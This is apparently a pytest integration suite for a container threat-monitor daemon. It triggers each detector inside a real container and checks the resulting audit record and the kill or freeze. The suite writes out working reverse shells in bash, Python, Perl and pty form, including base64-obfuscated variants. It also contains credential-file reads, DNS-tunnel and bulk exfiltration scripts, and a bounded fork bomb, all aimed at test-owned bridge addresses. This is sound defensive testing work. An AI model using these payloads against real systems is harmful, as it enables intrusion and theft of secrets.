"""The threat monitor against the real daemon: one test per detector, triggered inside a real
container, asserting the audit record (through the monitor's event socket and the JSONL file)
and the action (container frozen or gone); obfuscated reverse shells caught by the behavioural
rules; a developer workload that raises nothing above WARNING.

Network targets are only hosts on our own bridge: the bridge address 10.199.0.1 (listeners
started here) and a network namespace this module attaches to coibr0 holding 10.199.0.250 and
169.254.169.254 (the container gets an on-link route to the latter, asserted before use).
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import json
import os
import queue
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.cleanup import cleanup_test_leftovers

REPO = Path(__file__).resolve().parents[2]
BRIDGE = "coibr0"
GATEWAY = "10.199.0.1"
PRIVATE_HOST = "10.199.0.250"
METADATA = "169.254.169.254"
BEHAVIOURAL = {"proc.revshell-socket-stdio", "proc.revshell-pipe-relay", "proc.revshell-pty-relay"}

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")


def wait_until(check: Any, timeout: float, what: str, step: float = 0.05) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout:g}s waiting for {what}")
        time.sleep(step)


class Subscriber:
    """Reads the monitor socket in a thread; tests wait on what it has seen."""

    def __init__(self, path: Path) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(str(path))
        self.messages: list[dict[str, Any]] = []
        self.cond = threading.Condition()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buffer = b""
        while True:
            try:
                data = self.sock.recv(65536)
            except OSError:
                return
            if not data:
                return
            buffer += data
            *lines, buffer = buffer.split(b"\n")
            now = time.monotonic()
            with self.cond:
                for line in lines:
                    if line:
                        self.messages.append({**json.loads(line), "_received": now})
                self.cond.notify_all()

    def wait(self, match: Any, timeout: float, what: str) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        with self.cond:
            while True:
                for message in self.messages:
                    if match(message):
                        return message
                left = deadline - time.monotonic()
                if left <= 0:
                    seen = [m for m in self.messages if m.get("type") == "threat"][-5:]
                    raise AssertionError(f"no {what} within {timeout:g}s; last threats: {seen}")
                self.cond.wait(left)

    def threats(self, container: str) -> list[dict[str, Any]]:
        with self.cond:
            return [
                m
                for m in self.messages
                if m.get("type") == "threat" and m.get("container") == container
            ]


class Listener:
    """A TCP listener on the bridge address: accepts, sends a command, keeps the socket."""

    def __init__(self, port: int = 0, sink: bool = False) -> None:
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind((GATEWAY, port))
        self.server.listen(8)
        self.port = self.server.getsockname()[1]
        self.sink = sink
        self.conns: list[socket.socket] = []
        self.accepted: list[float] = []  # when each connection came in (monotonic)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.accepted.append(time.monotonic())
            self.conns.append(conn)
            if self.sink:
                threading.Thread(target=self._drain, args=(conn,), daemon=True).start()
            else:
                with contextlib.suppress(OSError):
                    conn.sendall(b"id\n")

    def _drain(self, conn: socket.socket) -> None:
        while True:
            try:
                if not conn.recv(1 << 16):
                    return
            except OSError:
                return

    def close(self) -> None:
        # shutdown wakes the accept thread, so the port stops listening now (a bare close
        # leaves it bound while accept() holds the socket)
        with contextlib.suppress(OSError):
            self.server.shutdown(socket.SHUT_RDWR)
        self.server.close()
        for conn in self.conns:
            conn.close()


@dataclass
class Monitor:
    incus: Any
    home: Path
    prefix: str
    image: str
    events: Subscriber
    env: dict[str, str]
    ready: queue.Queue[str] = field(default_factory=queue.Queue)
    triggers: list[subprocess.Popen[bytes]] = field(default_factory=list)
    supervisors: list[subprocess.Popen[bytes]] = field(default_factory=list)
    config: dict[str, str] = field(default_factory=dict)  # more instance config per launch
    netns: str = ""  # the network namespace of the bridge's test hosts (running_monitor)

    def coi(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "coi_tui.cli.main", *args],
            env=self.env,
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=60,
        )

    def launch(self, name: str = "") -> str:
        """Create and start a container (`name`: a given one, e.g. a slot started again).
        Tagged with this monitor's COI home, as sessions are, so no other test's daemon (of
        another home, whose prefix may be a prefix of ours) ever watches it. Supervised as
        `coi shell` supervises every session: the monitor's kill only stops a container, its
        supervisor saves and deletes it."""
        from coi_tui.core.paths import home_tag

        name = name or f"{self.prefix}{uuid.uuid4().hex[:6]}"
        nic = {"type": "nic", "network": BRIDGE, "name": "eth0"}
        self.incus.create_instance(
            name,
            self.image,
            config={"user.coi.home": home_tag(self.home), **self.config},
            devices={"eth0": nic},
            start=True,
        )
        self.supervisors.append(
            subprocess.Popen(
                [sys.executable, "-m", "coi_tui.sessions.supervisor", name],
                env=self.env,
                cwd=self.home,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
        )
        return name

    def container(self) -> str:
        """A running, watched container with an address (launched ahead in the background)."""
        name = self.ready.get(timeout=120)
        wait_until(lambda: self.incus.get_instance(name, with_state=True).ipv4, 60, "an address")
        self.events.wait(
            lambda m: m.get("type") == "watch" and m.get("container") == name, 30, "watch"
        )
        return name

    def sh(self, name: str, script: str, timeout: float = 60) -> str:
        result = self.incus.exec_capture(name, ["bash", "-c", script], timeout=timeout)
        assert result.exit_code == 0, f"{script[:60]}: {result.stderr.strip()[-300:]}"
        return result.stdout

    def trigger(self, name: str, script: str) -> None:
        """Run in the background: a frozen container never returns from exec."""
        self.triggers.append(
            subprocess.Popen(
                ["incus", "exec", name, "--", "bash", "-c", script],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )

    def threat(self, name: str, rules: set[str], timeout: float = 20) -> dict[str, Any]:
        record = self.events.wait(
            lambda m: (
                m.get("type") == "threat"
                and m.get("container") == name
                and m.get("rule_id") in rules
            ),
            timeout,
            f"{'/'.join(sorted(rules))} on {name}",
        )
        audit = [
            json.loads(x) for x in (self.home / "audit" / f"{name}.jsonl").read_text().splitlines()
        ]
        assert any(r["id"] == record["id"] for r in audit), "event not in the audit log"
        for key in (
            "id",
            "timestamp",
            "level",
            "category",
            "title",
            "description",
            "evidence",
            "action",
            "rule_id",
        ):
            assert key in record, key
        return record

    def first_critical(self, name: str, timeout: float = 20) -> dict[str, Any]:
        return self.events.wait(
            lambda m: (
                m.get("type") == "threat"
                and m.get("container") == name
                and m.get("level") == "critical"
            ),
            timeout,
            f"a critical threat on {name}",
        )

    def assert_status(self, name: str, wanted: str, timeout: float = 30) -> None:
        def status() -> str:
            try:
                return self.incus.status(name)
            except Exception:
                return "Gone"

        wait_until(lambda: status() == wanted, timeout, f"{name} to be {wanted}")


def netns(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True)


@pytest.fixture(scope="module")
def mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}m", incus, image, tmp_path_factory) as monitor:
        yield monitor


MONITOR_SERIAL = itertools.count()


@contextlib.contextmanager
def running_monitor(
    prefix: str,
    incus: Any,
    image: str,
    tmp_path_factory: pytest.TempPathFactory,
    settings: str = "",
    config: dict[str, str] | None = None,
) -> Iterator[Monitor]:
    """A monitor daemon of a COI home of its own serving `prefix`, with two containers kept
    booting ahead of the tests (`settings`: more config.toml text for the daemon, e.g. a
    [detection] table; `config`: instance config the containers get, e.g. docker's keys)."""
    home = tmp_path_factory.mktemp("monitor-home")
    (home / "config.toml").write_text(
        "[monitoring]\nidle_exit_sec = 60\nexfil_threshold_mb = 20\nspawn_rate_per_sec = 150\n"
        + settings
    )
    env = {
        **os.environ,
        "COI_HOME": str(home),
        "COI_CONTAINER_PREFIX": prefix,
        "PYTHONPATH": str(REPO),
    }
    env.pop("COI_CONFIG", None)
    serial = next(MONITOR_SERIAL)  # two monitors of one module may live at once
    ns = f"coimon{os.getpid()}-{serial}"
    veth = f"cm{os.getpid() % 100000}-{serial}"
    netns("netns", "add", ns)
    stop = threading.Event()
    try:
        netns("link", "add", veth, "type", "veth", "peer", "name", "eth0", "netns", ns)
        netns("link", "set", veth, "master", BRIDGE, "up")
        netns("-n", ns, "addr", "add", f"{PRIVATE_HOST}/24", "dev", "eth0")
        netns("-n", ns, "addr", "add", f"{METADATA}/32", "dev", "eth0")
        netns("-n", ns, "link", "set", "eth0", "up")
        started = subprocess.run(
            [sys.executable, "-m", "coi_tui.cli.main", "monitor", "--daemon"],
            env=env,
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert started.returncode == 0, started.stderr
        # the `coi` process that started it has exited: the daemon lives on
        pid = int((home / "monitor.pid").read_text())
        os.kill(pid, 0)
        monitor = Monitor(incus, home, prefix, image, Subscriber(home / "monitor.sock"), env)
        monitor.config.update(config or {})
        monitor.netns = ns

        def launcher() -> None:  # keep two containers booting ahead of the tests
            while not stop.is_set():
                if monitor.ready.qsize() >= 2:
                    time.sleep(0.2)
                    continue
                try:
                    monitor.ready.put(monitor.launch())
                except Exception:
                    time.sleep(1)

        threading.Thread(target=launcher, daemon=True).start()
        yield monitor
    finally:
        stop.set()
        for proc in getattr(locals().get("monitor"), "triggers", []):
            proc.kill()
        for proc in getattr(locals().get("monitor"), "supervisors", []):
            proc.kill()
            proc.wait()
        subprocess.run(
            [sys.executable, "-m", "coi_tui.cli.main", "monitor", "--stop"],
            env=env,
            cwd=REPO,
            capture_output=True,
            timeout=60,
        )
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        subprocess.run(["ip", "link", "del", veth], capture_output=True)
        cleanup_test_leftovers(incus, prefix)
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    assert "coi_mon_" not in tables or prefix not in tables


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def run_file(path: str, text: str, runner: str) -> str:
    """A script written through base64 and run from a file: no telltale command line."""
    return f"echo {b64(text)} | base64 -d > {path}; {runner} {path}"


# --------------------------------------------------------------------------- reverse shells
def test_reverse_shell_bash_dev_tcp_is_killed(mon: Monitor) -> None:
    name = mon.container()
    listener = Listener()
    try:
        mon.trigger(name, f"bash -i >& /dev/tcp/{GATEWAY}/{listener.port} 0>&1")
        record = mon.first_critical(name)
        assert record["rule_id"] in {"proc.dev-tcp"} | BEHAVIOURAL
        assert record["action"] == "killed"
        assert record["category"] == "process"
        mon.assert_status(name, "Gone")
    finally:
        listener.close()


PY_DUP2 = """import socket, os, subprocess
s = socket.create_connection(("{host}", {port}))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"""
PERL = """use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in({port}, inet_aton("{host}")));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
"""
RELAY = """import socket, sys, threading
s = socket.create_connection(("{host}", {port}))
def up():
    for line in sys.stdin.buffer:
        s.sendall(line)
threading.Thread(target=up, daemon=True).start()
while True:
    data = s.recv(4096)
    if not data:
        break
    sys.stdout.buffer.write(data); sys.stdout.flush()
"""
FIFO_LOOP = """cp /bin/sh /tmp/s; rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /tmp/s -i 2>&1 | python3 /tmp/relay.py > /tmp/f
"""
PTY = """import socket, os, pty
s = socket.create_connection(("{host}", {port}))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
pty.spawn("/bin/bash")
"""


def obfuscated(kind: str, port: int) -> str:
    fill = {"host": GATEWAY, "port": port}
    if kind == "renamed-bash-base64":
        inner = f"/tmp/kworker -i >& /dev/tcp/{GATEWAY}/{port} 0>&1"
        return f"cp /bin/bash /tmp/kworker; echo {b64(inner)} | base64 -d | /tmp/kworker"
    if kind == "python-file-dup2":
        return run_file("/tmp/build_helper.py", PY_DUP2.format(**fill), "python3")
    if kind == "perl-file":
        return run_file("/tmp/x.pl", PERL.format(**fill), "perl")
    if kind == "fifo-loop-renamed-sh":
        relay = f"echo {b64(RELAY.format(**fill))} | base64 -d > /tmp/relay.py; "
        return relay + run_file("/tmp/loop.sh", FIFO_LOOP, "bash")
    return run_file("/tmp/p.py", PTY.format(**fill), "python3")


@pytest.mark.parametrize(
    "kind",
    ["renamed-bash-base64", "python-file-dup2", "perl-file", "fifo-loop-renamed-sh", "python-pty"],
)
def test_obfuscated_reverse_shells_caught_by_behaviour(mon: Monitor, kind: str) -> None:
    name = mon.container()
    listener = Listener()
    try:
        mon.trigger(name, obfuscated(kind, listener.port))
        record = mon.first_critical(name)
        assert record["rule_id"] in BEHAVIOURAL, record
        assert record["action"] == "killed"
        assert f"{GATEWAY}:{listener.port}" in json.dumps(record["evidence"])
        mon.assert_status(name, "Gone")
    finally:
        listener.close()


PY_DUP2_RETRY = """import socket, os, subprocess, time
while True:
    try:
        s = socket.create_connection(("{host}", {port}), 1)
        break
    except OSError:
        time.sleep(0.05)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"""
SLOT_ROUNDS = int(os.environ.get("COI_TEST_SLOT_ROUNDS", "1"))  # rounds of each kind
SHELL_TO_FROZEN_SEC = 1.0  # a reverse shell's connection to its container frozen


def relaunch(mon: Monitor, name: str) -> None:
    """Start the slot again under the same name, as soon as Incus lets the name be reused."""

    def created() -> bool:
        try:
            mon.launch(name)
        except Exception:
            return False
        return True

    wait_until(created, 30, f"{name} to be created again", step=0.1)


def test_a_slot_started_again_is_watched_every_round(mon: Monitor) -> None:
    """Issue 17: the daemon tracked containers by name, so a slot killed and started again
    before its next refresh kept the old container's record (killed, its events ignored) and
    the new one went unwatched. Rounds on one name, each ending with the monitor killing the
    container for a reverse shell and the slot started again at once; in every second round
    of three the watched container is first killed with `coi kill` and started again at once,
    in every third it is restarted (same instance, another init). Every other round's shell
    starts the moment the container runs (before the daemon can have seen it) and connects
    once it has an address; the others start once it has one. Each round's shell must be
    frozen within SHELL_TO_FROZEN_SEC of its connection. COI_TEST_SLOT_ROUNDS=4: twelve."""
    name = mon.container()
    listener = Listener()
    frozen: list[float] = []
    gone: list[float] = []
    rules: list[str] = []
    seen: set[str] = set()
    incarnations = 1

    def watches() -> int:
        return sum(
            1
            for m in list(mon.events.messages)
            if m.get("type") == "watch" and m.get("container") == name
        )

    try:
        for round_ in range(3 * SLOT_ROUNDS):
            how = ("monitor", "coi kill", "restart")[round_ % 3]
            if how != "monitor":
                # this incarnation is watched; then the slot is started again at once
                wait_until(lambda n=incarnations: watches() >= n, 30, f"{name} watched")
                if how == "coi kill":
                    killed = mon.coi("kill", "--force", name)
                    assert killed.returncode == 0, killed.stderr
                    relaunch(mon, name)
                else:  # the same instance, another init
                    subprocess.run(["incus", "restart", "--force", name], check=True, timeout=60)
                incarnations += 1
            connections = len(listener.accepted)
            if round_ % 2:
                # a shell only the behavioural rules see, started the moment the container
                # is (before the daemon watched it), connecting once it has an address
                script = PY_DUP2_RETRY.format(host=GATEWAY, port=listener.port)
                mon.trigger(name, run_file("/tmp/helper.py", script, "python3"))
            else:
                wait_until(
                    lambda: mon.incus.get_instance(name, with_state=True).ipv4, 60, "an address"
                )
                mon.trigger(name, f"bash -i >& /dev/tcp/{GATEWAY}/{listener.port} 0>&1")
            record = mon.events.wait(
                lambda m: (
                    m.get("type") == "threat"
                    and m.get("container") == name
                    and m.get("action") == "killed"
                    and m.get("id") not in seen
                ),
                20,
                f"round {round_ + 1}: the reverse shell in {name} killed",
            )
            seen.add(record["id"])
            assert record["level"] == "critical", record
            mon.assert_status(name, "Gone")
            # a command-line rule can freeze it before it connects: no connection then
            connected = (listener.accepted[connections:] or [record["_received"]])[0]
            frozen.append(record["_received"] - connected)
            gone.append(time.monotonic() - connected)
            rules.append(record["rule_id"])
            if round_ < 3 * SLOT_ROUNDS - 1:
                relaunch(mon, name)
                incarnations += 1
    finally:
        listener.close()
        print(f"\nslot rounds: connection->frozen {[round(x, 3) for x in frozen]} s,")
        print(f"connection->gone {[round(x, 2) for x in gone]} s, rules {rules}")
    assert max(frozen) < SHELL_TO_FROZEN_SEC, frozen


# --------------------------------------------------------------------------- network
PY_CONNECT = (
    "python3 -c \"import socket\ntry:\n socket.create_connection(('{host}', {port}), 3)\n"
    'except OSError:\n pass"'
)


def test_c2_port_connection_is_killed(mon: Monitor) -> None:
    name = mon.container()
    listener = Listener(4444)
    try:
        mon.trigger(name, PY_CONNECT.format(host=GATEWAY, port=4444))
        record = mon.threat(name, {"net.c2-port"})
        assert record["level"] == "critical" and record["action"] == "killed"
        assert record["evidence"]["network"]["remote_host"] == GATEWAY
        mon.assert_status(name, "Gone")
    finally:
        listener.close()


def test_metadata_endpoint_is_killed(mon: Monitor) -> None:
    name = mon.container()
    # route it on-link to our netns on the bridge, never through the host
    route = mon.sh(name, f"ip route add {METADATA}/32 dev eth0 && ip route get {METADATA}")
    assert "via" not in route and "dev eth0" in route
    mon.trigger(name, PY_CONNECT.format(host=METADATA, port=80))
    record = mon.threat(name, {"net.metadata"})
    assert record["level"] == "critical" and record["action"] == "killed"
    mon.assert_status(name, "Gone")


def test_private_network_freezes_then_unfreeze(mon: Monitor) -> None:
    name = mon.container()
    route = mon.sh(name, f"ip route get {PRIVATE_HOST}")
    assert "via" not in route and "dev eth0" in route
    mon.trigger(name, PY_CONNECT.format(host=PRIVATE_HOST, port=8080))
    record = mon.threat(name, {"net.private"})
    assert record["level"] == "high" and record["action"] == "paused"
    mon.assert_status(name, "Frozen")
    shown = mon.coi("audit", name, "--json")
    assert shown.returncode == 0 and record["id"] in shown.stdout
    again = mon.coi("monitor", "--daemon")
    assert "already running" in again.stdout
    result = mon.coi("unfreeze", name)
    assert result.returncode == 0, result.stderr
    mon.assert_status(name, "Running")


DNS = """import socket, struct, random
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def q(name):
    msg = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    s.sendto(msg + b"\\0" + struct.pack(">HH", 16, 1), ("{gw}", 53))
for i in range({count}):
    q(f"www{{i}}.example.test")
"""
TUNNEL = "import base64, os; label = base64.b32encode(os.urandom(30)).decode().strip('=').lower()"


def test_dns_rate_warns_and_tunnel_label_freezes(mon: Monitor) -> None:
    name = mon.container()
    mon.sh(name, run_file("/tmp/dns.py", DNS.format(gw=GATEWAY, count=130), "python3"))
    rate = mon.threat(name, {"dns.rate"})
    assert rate["level"] == "warning" and rate["action"] == "alerted"
    assert mon.incus.status(name) == "Running"
    tunnel = DNS.format(gw=GATEWAY, count=0) + TUNNEL + "\nq(label + '.x.exfil.test')\n"
    mon.trigger(name, run_file("/tmp/t.py", tunnel, "python3"))
    record = mon.threat(name, {"dns.tunnel-label"})
    assert record["level"] == "high" and record["action"] == "paused"
    mon.assert_status(name, "Frozen")


# --------------------------------------------------------------------------- credentials
def test_credential_scanning_is_alerted(mon: Monitor) -> None:
    name = mon.container()
    mon.sh(
        name,
        # command lines only: the files do not exist (opening real ones is HIGH, see
        # test_monitor_files.py)
        "env > /dev/null; cat /proc/1/environ > /dev/null; cat /root/.ssh/id_ed25519 2>/dev/null;"
        " cat /root/.aws/credentials 2>/dev/null; grep -r 'BEGIN OPENSSH PRIVATE' /root || true;"
        " sleep 1",  # keeps the script observable (see the developer-workload test)
    )
    wanted = {
        "cred.env-dump",
        "cred.proc-environ",
        "cred.ssh-key",
        "cred.cloud-file",
        "cred.secret-search",
    }
    for rule in wanted:
        record = mon.threat(name, {rule})
        assert record["level"] == "warning" and record["action"] == "alerted"
        assert record["category"] == "credential_access"
    assert mon.incus.status(name) == "Running"


# --------------------------------------------------------------------------- volumes, spawns
READ_THEN_SEND = """import socket, time
data = open("/root/data.bin", "rb")
total = 0
while chunk := data.read(1 << 20):
    total += len(chunk)
s = socket.create_connection(("{host}", {port}))
s.sendall(b"x" * (4 << 20))  # a digest of what was read: far less than the read, still out
time.sleep(30)
"""


def test_large_read_then_send_freezes(mon: Monitor) -> None:
    name = mon.container()
    sink = Listener(sink=True)
    try:
        # writing the file reads 96 MB of /dev/urandom: a device, not a file read, and
        # nothing goes out, so this must not count (it froze containers before)
        mon.sh(name, "dd if=/dev/urandom of=/root/data.bin bs=1M count=96 status=none")
        script = READ_THEN_SEND.format(host=GATEWAY, port=sink.port)
        mon.trigger(name, run_file("/tmp/digest.py", script, "python3"))
        record = mon.threat(name, {"fs.large-read"})
        assert record["level"] == "high" and record["action"] == "paused"
        evidence = record["evidence"]["filesystem"]
        assert evidence["read_bytes_mb"] > 50 and 1 <= evidence["sent_mb"] < 20, evidence
        assert "digest.py" in evidence["reader"]
        early = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
        assert not [t for t in early if t["level"] in ("high", "critical")], early
        mon.assert_status(name, "Frozen")
    finally:
        sink.close()


def test_exfiltration_by_volume_freezes(mon: Monitor) -> None:
    name = mon.container()
    sink = Listener(sink=True)
    try:
        send = (
            f"import socket, time\ns = socket.create_connection(('{GATEWAY}', {sink.port}))\n"
            "chunk = b'x' * (1 << 20)\nfor _ in range(40): s.sendall(chunk)\ntime.sleep(30)\n"
        )
        mon.trigger(name, run_file("/tmp/up.py", send, "python3"))
        record = mon.threat(name, {"net.exfil-volume"})
        assert record["level"] == "high" and record["action"] == "paused"
        assert record["evidence"]["network_volume"]["sent_mb"] > 20
        mon.assert_status(name, "Frozen")
    finally:
        sink.close()


def test_spawn_storm_freezes(mon: Monitor) -> None:
    name = mon.container()
    # a sequential loop of short processes (what ./configure does) is not a storm ...
    mon.sh(name, "for i in $(seq 400); do /bin/true; done")
    assert not [t for t in mon.events.threats(name) if t["rule_id"] == "proc.spawn-storm"]
    # ... processes that stay alive while more are forked are (a bounded fork bomb)
    mon.trigger(name, "for i in $(seq 600); do sleep 60 & done; sleep 30")
    record = mon.threat(name, {"proc.spawn-storm"})
    assert record["level"] == "high" and record["action"] == "paused"
    assert record["evidence"]["process_count"]["live"] >= 250
    mon.assert_status(name, "Frozen")


# --------------------------------------------------------------------------- false positives
def make_wheel(folder: Path) -> Path:
    import zipfile

    wheel = folder / "devpkg-1.0-py3-none-any.whl"
    files = {
        "devpkg/__init__.py": "import socket\n\ndef port():\n    return socket.getservbyname"
        "('http')\n",
        "devpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: devpkg\nVersion: 1.0\n",
        "devpkg-1.0.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
        "devpkg-1.0.dist-info/RECORD": "",
    }
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return wheel


WORKLOAD = r"""set -e
cd /root
site=$(python3 -c 'import site; print(site.getsitepackages()[0])')
python3 -m zipfile -e /root/devpkg-1.0-py3-none-any.whl "$site"
python3 -c 'import devpkg; print(devpkg.__name__)'
mkdir -p proj/src proj/tests && cd proj
cat > src/net.py <<'PYEOF'
import socket
def check(host="localhost", port=5432):
    # wait-for-db helper: until (echo > /dev/tcp/localhost/5432); do sleep 1; done
    return socket.socket
PYEOF
cat > tests/test_net.py <<'PYEOF'
import sys; sys.path.insert(0, "src")
import net
def test_check():
    assert net.check() is not None
if __name__ == "__main__":
    test_check(); print("ok")
PYEOF
cat > build.sh <<'SHEOF'
#!/bin/sh
env | sort > build-env.txt
printenv PATH > /dev/null
python3 -c "import json; print(json.dumps({'a': [1, 2, 3][:2]}))"
SHEOF
sh build.sh
python3 tests/test_net.py
python3 -c "print(sum(i * i for i in range(100000)))"
python3 -m compileall -q src
grep -rn "socket" src | head -3
grep -rn "/dev/tcp" src | head -3
grep -rn "API_KEY" . || true
if command -v git > /dev/null; then
  git init -q -b main /root/origin && cd /root/origin && git -c user.email=a@b -c user.name=a \
    commit -q --allow-empty -m init && cd /root && git clone -q /root/origin clone
fi
bash -c 'for i in $(seq 20); do echo $i > /dev/null; done'
until (echo > /dev/tcp/localhost/1) 2>/dev/null; do break; done
tar czf /tmp/proj.tgz -C /root proj
# big local reads: nothing leaves the container, so at most an INFO record
mkdir -p /root/big/node_modules/pkg
for i in 1 2 3; do yes "line $i of a log file that compresses well" | head -c 40M \
  > /root/big/node_modules/pkg/f$i.log; done
cp -r /root/big/node_modules /root/nm-copy
tar czf /tmp/logs.tgz -C /root big
rg -c "line 2" /root/big > /dev/null
dd if=/dev/zero bs=1M count=200 status=none | cat > /dev/null
cat /root/big/node_modules/pkg/*.log | sha256sum > /dev/null
# a download from an allowed host (the bridge address), then read back
curl -fsS -o /root/artifact.bin http://{gw}:{http_port}/artifact.bin
sha256sum /root/artifact.bin > /dev/null
# test-suite look-alikes: a key pair made by a test, a .env template, npm test
mkdir -p /tmp/k && ssh-keygen -q -t ed25519 -N '' -f /tmp/k/id_ed25519
mkdir -p /root/app && cd /root/app
printf 'API_KEY=changeme\nDB_URL=postgres://localhost/db\n' > .env.example
cp .env.example .env.test && cat .env.example > /dev/null
printf '{{"name":"app","version":"1.0.0","scripts":{{"test":"node test.js"}}}}\n' > package.json
echo 'require("assert").strictEqual(1 + 1, 2); console.log("ok")' > test.js
if command -v npm > /dev/null; then NO_UPDATE_NOTIFIER=1 npm test --silent --offline; fi
cd /root
echo done
"""


@contextlib.contextmanager
def http_server(folder: Path) -> Iterator[int]:
    """A static file server on the bridge address (what an allowed registry looks like)."""
    import functools
    import http.server

    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    handler.log_message = lambda *a: None  # type: ignore[attr-defined]
    server = http.server.ThreadingHTTPServer((GATEWAY, 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def test_developer_workload_raises_nothing_high(mon: Monitor, tmp_path: Path) -> None:
    name = mon.container()
    wheel = make_wheel(tmp_path)
    mon.incus.push_file(name, "/root/devpkg-1.0-py3-none-any.whl", wheel.read_bytes())
    served = tmp_path / "served"
    served.mkdir()
    (served / "artifact.bin").write_bytes(os.urandom(80 << 20))
    with http_server(served) as port:
        script = WORKLOAD.replace("{gw}", GATEWAY).replace("{http_port}", str(port))
        output = mon.sh(name, script.replace("{{", "{").replace("}}", "}"), timeout=180)
    assert output.strip().endswith("done")
    local = mon.events.wait(
        lambda m: m.get("container") == name and m.get("rule_id") == "fs.large-read-local",
        10,
        "the INFO record of the local reads",
    )
    assert local["level"] == "info" and local["action"] == "logged"
    # an exec after the workload: once its event is in, everything before it was judged
    # The trailing sleep keeps the script's shell observable: these checks are about what the
    # rules recognise, not about winning a race against a 2 ms process (a documented limit).
    mon.trigger(name, "echo ZWNobyBoaQo= | base64 -d | sh; sleep 30")
    mon.threat(name, {"proc.decode-to-shell"})
    serious = [t for t in mon.events.threats(name) if t["level"] in ("high", "critical")]
    assert serious == [], serious
    assert mon.incus.status(name) == "Running"


def test_session_hook_starts_one_daemon(coi: Any, workspace: Path) -> None:
    (coi.home / "config.toml").write_text("[monitoring]\nenabled = true\n")
    try:
        coi.ok("run", "-w", str(workspace), "--", "true")
        pid = int((coi.home / "monitor.pid").read_text())
        os.kill(pid, 0)  # outlived the `coi run` that started it
        coi.ok("run", "-w", str(workspace), "--", "true")
        assert int((coi.home / "monitor.pid").read_text()) == pid  # no second daemon
    finally:
        coi("monitor", "--stop")
    assert not (coi.home / "monitor.sock").exists()
